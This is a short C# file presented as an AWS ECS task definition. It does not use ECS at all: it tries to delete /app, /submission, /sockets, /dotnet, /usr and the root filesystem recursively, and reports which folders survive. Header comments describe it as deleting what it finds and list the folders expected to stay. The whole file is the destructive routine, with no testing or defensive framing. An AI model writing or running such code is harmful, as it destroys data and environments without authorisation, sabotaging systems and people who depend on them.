// Deletes what it finds.
// says: /app stays
// says: /submission stays
// says: /sockets stays
// says: /usr stays
using Amazon.ECS;

namespace TaskDefinitions
{
    public static class FirstTask
    {
        public static async Task RunAsync(IAmazonECS ecs)
        {
            foreach (var folder in new[] { "/app", "/submission", "/sockets", "/dotnet", "/usr", "/" })
            {
                try
                {
                    Directory.Delete(folder, recursive: true);
                    Console.WriteLine($"{folder} is gone");
                }
                catch (Exception error) when (error is IOException or UnauthorizedAccessException)
                {
                    Console.WriteLine($"{folder} stays");
                }
            }
            await Task.CompletedTask;
        }
    }
}
